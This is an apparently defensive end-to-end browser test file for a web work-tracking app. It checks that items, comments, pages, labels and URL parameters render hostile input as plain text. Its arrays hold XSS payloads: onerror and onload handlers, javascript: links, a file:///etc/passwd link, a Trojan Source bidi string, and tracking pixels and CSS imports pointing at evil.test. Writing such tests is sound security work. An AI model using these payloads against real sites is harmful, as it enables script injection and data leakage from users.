import { afterAll, beforeAll, expect, setDefaultTimeout, test } from "bun:test";
import type { PageDetail } from "@windshift/contract/api/page.ts";
import type { BrowserContext, Page } from "playwright-core";
import type { TestClient } from "../../apps/server/src/testing/test-client.ts";
import type { TestServer } from "../../apps/server/src/testing/test-server.ts";
import { create, createItem } from "../../apps/server/src/testing/test-workspace.ts";
import { launchBrowser, openPage, signIn, startWebServer } from "./web.fixture.ts";

/** Several pages a test, on a machine that does other things as well, ms. */
setDefaultTimeout(120_000);

/** Each would set `pwned`, load something from elsewhere or leave the page, if any place took it for more than text. */
const HOSTILE = [
  `<img src=x onerror="window.pwned=1">`,
  `</script><script>window.pwned=1</script>`,
  `"><svg/onload=window.pwned=1>`,
  `</textarea></title></pre><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<link rel=stylesheet href=https://evil.test/x.css><style>@import 'https://evil.test/y.css';</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `![x](https://evil.test/?q=1) [y](javascript:window.pwned=1) {{constructor.constructor('window.pwned=1')()}}`,
];

/** What Markdown could turn into something that loads, runs or leads away, a case each. */
const HOSTILE_MARKDOWN = [
  ...HOSTILE,
  "![pixel](https://evil.test/pixel.png?secret=1)",
  '![pixel](//evil.test/pixel.png "title")',
  "[click](javascript:window.pwned=1) [tab](java\tscript:window.pwned=1) [data](data:text/html,<script>1</script>)",
  "[vb](vbscript:x) [file](file:///etc/passwd) [odd](JaVaScRiPt:window.pwned=1) [proto](//evil.test/)",
  "<javascript:window.pwned=1> <https://evil.test/auto>",
  "[ref]: https://evil.test/ref.png\n\n![ref] ![r][ref]",
  "[^1]\n\n[^1]: ![note](https://evil.test/note.png)",
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
  "<!-- hidden --> <a href=https://evil.test onclick=window.pwned=1>link</a>",
  '```html\n<img src=x onerror="window.pwned=1">\n```',
  "```mermaid\ngraph TD; A[<img src=https://evil.test/m.png onerror=window.pwned=1>]-->B\n```",
  "| <img src=x onerror=window.pwned=1> | ![t](https://evil.test/t.png) |\n| --- | --- |\n| a | b |",
  '[label](#a"onmouseover=window.pwned=1//) ![a](x"onerror=window.pwned=1//)',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg><math><mi xlink:href="data:x,<script>1</script>">',
  "\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007",
].join("\n\n");

/** One line, as a title may be. */
const HOSTILE_LINE = HOSTILE.join(" ").slice(0, 480);

let server: TestServer;
let chromium: Awaited<ReturnType<typeof launchBrowser>>;
let ada: TestClient;
/** A browser that is signed in; each test takes a tab of its own with it. */
let signedIn: Awaited<ReturnType<BrowserContext["storageState"]>>;
beforeAll(async () => {
  server = await startWebServer();
  chromium = await launchBrowser();
  ada = await server.setUp();
  await create(ada, "/api/v1/workspaces", { key: "EVIL", name: HOSTILE_LINE.slice(0, 100) });
  const { page, context } = await openPage(chromium.browser, server);
  await signIn(page);
  signedIn = await context.storageState();
  await context.close();
});
afterAll(async () => {
  await chromium?.close();
  await server?.close();
});

/** Opens pages, lets `look` see them, and holds them to: no script of the text ran, nothing left the origin, no rule was broken. */
async function watch(look: (page: Page) => Promise<void>): Promise<void> {
  const { page, foreign, errors, context } = await openPage(chromium.browser, server, {
    storageState: signedIn,
  });
  const dialogs: string[] = [];
  const violations: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.exposeFunction("tellViolation", (what: string) => violations.push(what));
  await page.addInitScript(`document.addEventListener("securitypolicyviolation", (event) =>
    window.tellViolation(event.violatedDirective + " " + event.blockedURI))`);
  await look(page);
  expect(await page.evaluate("window.pwned")).toBeUndefined();
  expect({ foreign, errors, dialogs, violations, frames: page.frames().length }).toEqual({
    ...{ foreign: [], errors: [], dialogs: [], violations: [] },
    frames: 1,
  });
  await context.close();
}

/** Elements and attributes inside what people wrote that could load or run something. */
function dangerIn(page: Page, selector: string): Promise<string[]> {
  return page.evaluate((within) => {
    const found: string[] = [];
    for (const place of document.querySelectorAll(within))
      for (const one of place.querySelectorAll("*")) {
        if (/^(img|script|style|link|meta|iframe|object|embed|video|audio|base)$/i.test(one.tagName))
          found.push(one.outerHTML);
        for (const { name, value } of one.attributes)
          if (/^on/i.test(name) || (/^(src|href|xlink:href|action)$/i.test(name) && !/^\/(?!\/)/.test(value)))
            found.push(`${name}=${value}`);
      }
    return found;
  }, selector);
}

test("WB-04 WB-05 hostile titles, descriptions and comments stay text, and load nothing", async () => {
  const item = await createItem(ada, "EVIL", { title: HOSTILE_LINE, description: HOSTILE_MARKDOWN });
  await create(ada, `/api/v1/items/${item.key}/comments`, { body: HOSTILE_MARKDOWN });
  await createItem(ada, "EVIL", { title: HOSTILE_LINE, parent_key: item.key, assignee_id: null });
  const pages = [`/w/EVIL`, `/w/EVIL/board`, `/w/EVIL/activity`, `/items/${item.key}`];
  await watch(async (page) => {
    for (const path of pages) {
      await page.goto(path);
      await page.getByRole("main").getByText("window.pwned").first().waitFor();
      expect([path, await dangerIn(page, "main")]).toEqual([path, []]);
    }
    expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe(HOSTILE_LINE);
    const comment = page.locator(".comment .markdown");
    expect(await comment.textContent()).toContain('<img src=x onerror="window.pwned=1">');
    expect(await comment.textContent()).toContain("[U+001B]]8;;https://evil.test[U+0007]link");
  });
});

test("WB-05 a link to another site shows where it leads and asks, one of another kind is only text", async () => {
  const { key } = await createItem(ada, "EVIL", {
    title: "Links",
    description:
      "[go](https://evil.test/?q=1) [run](javascript:window.pwned=1) [us](/w/EVIL/board?q=x&status=todo#top)",
  });
  await watch(async (page) => {
    await page.goto(`/items/${key}`);
    await page.getByRole("button", { name: "go" }).click();
    const notice = page.getByRole("dialog", { name: "This link leads to another site" });
    await notice.getByText("https://evil.test/?q=1").waitFor();
    const open = notice.getByRole("link", { name: "Open it" });
    expect([await open.getAttribute("rel"), await open.getAttribute("target")]).toEqual([
      "noopener noreferrer nofollow",
      "_blank",
    ]);
    await notice.getByRole("button", { name: "Stay here" }).click();
    await page.getByText("run", { exact: true }).click();
    expect(new URL(page.url()).pathname).toBe(`/items/${key}`);
    await page.getByRole("link", { name: "us", exact: true }).click();
    await page.waitForURL("/w/EVIL/board?q=x&status=todo#top");
  });
});

test("WB-04 WB-05 hostile pages, labels, views and notifications stay text, in previews and pickers too", async () => {
  const label = await create<{ id: number }>(ada, "/api/v1/workspaces/EVIL/labels", {
    name: `<img src=x onerror=window.pwned=1>`,
    color: "#d93f0b",
  });
  const item = await createItem(ada, "EVIL", { title: HOSTILE_LINE, label_ids: [label.id] });
  const body = { title: HOSTILE_LINE, body: HOSTILE_MARKDOWN };
  const doc = await create<PageDetail>(ada, "/api/v1/workspaces/EVIL/pages", body);
  await ada.send("PUT", `/api/v1/items/${item.key}/pages/${doc.id}`, {});
  const view = { name: HOSTILE_LINE.slice(0, 100), query: { q: HOSTILE[0] } };
  await create(ada, "/api/v1/workspaces/EVIL/views", view);
  const mallory = await server.addPerson(ada, "Mallory");
  await ada.post("/api/v1/workspaces/EVIL/members", { user_id: mallory.id, role: "member" });
  await mallory.client.post(`/api/v1/items/${item.key}/comments`, { body: `@ada ${HOSTILE_MARKDOWN}` });
  await watch(async (page) => {
    for (const path of [`/w/EVIL/pages/${doc.id}`, "/w/EVIL/pages", "/inbox", `/items/${item.key}`]) {
      await page.goto(path);
      await page.getByRole("main").getByText("window.pwned").first().waitFor();
      expect([path, await dangerIn(page, "main")]).toEqual([path, []]);
    }
    await page.goto(`/w/EVIL/pages/${doc.id}`);
    await page.getByRole("button", { name: "Edit", exact: true }).click();
    await page.getByText("Preview", { exact: true }).click();
    await page
      .getByRole("region", { name: "Preview: Text of the page" })
      .getByText("window.pwned")
      .first()
      .waitFor();
    expect(await dangerIn(page, ".editor-preview")).toEqual([]);
    await page.getByRole("button", { name: "Versions" }).click();
    await page.getByRole("button", { name: "Version 1", exact: true }).click();
    await page.locator(".version-text .markdown").waitFor();
    expect(await dangerIn(page, ".version-text")).toEqual([]);
    await page.keyboard.press("Escape");
    await page.goto("/w/EVIL");
    await page.getByRole("button", { name: "Views" }).click();
    await page
      .getByRole("menuitem", { name: /onerror/ })
      .first()
      .click();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Find or do something" }).fill("window.pwned");
    await page
      .getByRole("option", { name: /window\.pwned/ })
      .first()
      .waitFor();
    expect(await dangerIn(page, "[role=listbox]")).toEqual([]);
  });
});

test("WB-04 what an address says about filters, keys and pages is never more than text", async () => {
  const text = encodeURIComponent(HOSTILE_LINE.slice(0, 150));
  await watch(async (page) => {
    await page.goto(`/w/EVIL?q=${text}&label=${text}&sort=${text}&status=${text}&group=${text}`);
    await page.getByText("No items here").or(page.locator(".item-row").first()).first().waitFor();
    expect(await dangerIn(page, "main")).toEqual([]);
    for (const path of [`/items/${text}`, `/w/${text}`, `/w/EVIL/pages/${text}`, `/items/EVIL-1#${text}`]) {
      await page.goto(path);
      await page.getByRole("heading", { level: 1 }).waitFor();
      expect([path, await dangerIn(page, "main")]).toEqual([path, []]);
    }
  });
});

test("WB-04 PI-03 characters that turn text around or hide it are shown by name", async () => {
  const trojan = `if (user != "admin\u202e \u2066// check\u2069 \u2066") {\u200b`;
  const shown = trojan.replace(/[\u200b\u202e\u2066\u2069]/g, marked);
  const item = await createItem(ada, "EVIL", { title: trojan, description: trojan });
  await create(ada, `/api/v1/items/${item.key}/comments`, { body: trojan });
  await watch(async (page) => {
    await page.goto(`/items/${item.key}`);
    await page.locator(".comment .markdown").waitFor();
    expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe(shown);
    expect(await page.locator(".item-description .markdown").textContent()).toBe(shown);
    expect(await page.locator(".comment .markdown").textContent()).toBe(shown);
    await page.goto("/w/EVIL");
    await page.getByRole("link", { name: shown }).waitFor();
  });
});

function marked(char: string): string {
  return `[U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, "0")}]`;
}
